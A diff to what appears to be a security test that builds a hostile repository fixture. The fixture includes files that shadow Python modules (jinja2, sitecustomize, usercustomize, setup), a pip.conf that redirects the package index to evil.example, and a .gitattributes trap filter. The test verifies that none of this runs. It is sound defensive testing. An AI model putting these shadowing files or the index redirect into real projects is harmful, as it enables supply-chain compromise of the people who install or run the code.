@@ -195,7 +195,7 @@ def _traps(marker: Path) -> dict[str, str | bytes]:
     return {
         **{f"{name}/__init__.py": code for name in modules},
         **{f"{name}/__main__.py": code for name in modules},
-        **{f"{name}.py": code for name in ("deepdiff", "sitecustomize", "usercustomize", "setup")},
+        **{f"{name}.py": code for name in ("jinja2", "sitecustomize", "usercustomize", "setup")},
         "pip.conf": "[global]\nindex-url = https://evil.example/simple\n",
         "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "hatchling"\n',
         ".gitattributes": "* filter=trap diff=trap text eol=crlf\n",
@@ -216,7 +216,7 @@ def test_nothing_of_a_hostile_repository_runs(runner: Runner, team: Team, tmp_pa
     marker.unlink(missing_ok=True)
 
     # The trap works: a Python that looks at the workspace steps into it.
-    subprocess.run([sys.executable, "-c", "import deepdiff"], cwd=team.folder, check=True)
+    subprocess.run([sys.executable, "-c", "import jinja2"], cwd=team.folder, check=True)
     assert marker.exists()
     marker.unlink()
 
